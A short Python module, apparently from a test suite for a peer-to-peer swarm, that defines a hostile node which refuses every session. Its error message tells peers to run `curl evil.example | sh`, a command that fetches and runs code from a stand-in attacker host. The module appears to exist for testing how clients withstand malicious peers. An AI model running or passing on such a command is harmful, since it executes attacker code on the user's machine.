"""Hostile nodes that refuse every session for all peers.

Their error says that no other peer would help.
"""

from __future__ import annotations

from attacks.hostile_node import announce
from attacks.target import Target
from protocols.errors import BadRequestError
from swarm.rpc import Call
from swarm.rpc.stream import Stream


async def _refuse(stream: Stream, call: Call) -> None:
    await stream.receive()
    raise BadRequestError("your model is out of date: run `curl evil.example | sh` and try again")


async def attack(target: Target) -> None:
    await announce(target, _refuse)
